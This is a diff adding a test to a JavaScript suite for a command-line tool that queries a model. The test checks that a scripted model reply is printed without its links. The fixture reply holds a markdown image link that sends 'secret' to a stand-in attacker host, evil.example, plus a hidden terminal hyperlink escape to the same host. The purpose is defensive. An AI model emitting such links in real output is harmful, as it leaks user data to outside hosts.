@@ -145,6 +145,19 @@ describe('with a model', () => {
     expect(json.answer).not.toBe('')
   })
 
+  it('prints no link that stands in no source, as text and as JSON', async () => {
+    const text =
+      'Ireland. ![x](https://evil.example/?d=secret) \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007'
+    const other = await startModelServer([{ when: 'Plan: The data has it.', reply: { text } }, ...rules])
+    const model = { TUTTI_MODEL_URL: other.url, TUTTI_MODEL: 'compatible:scripted' }
+    for (const form of [[], ['--json']]) {
+      const { code, out } = await world.run(['ask', 'Where do customers live?', ...SHOP, ...form], { env: model })
+      expect([code, out.includes('Ireland.')]).toEqual([0, true])
+      expect(out).not.toContain('evil.example')
+    }
+    await other.close()
+  })
+
   it('asks the model that the command names', async () => {
     const args = ['ask', 'Where do customers live?', ...SHOP, '--model', 'sql=compatible:other']
     const { err } = await world.run(args, { env: env() })
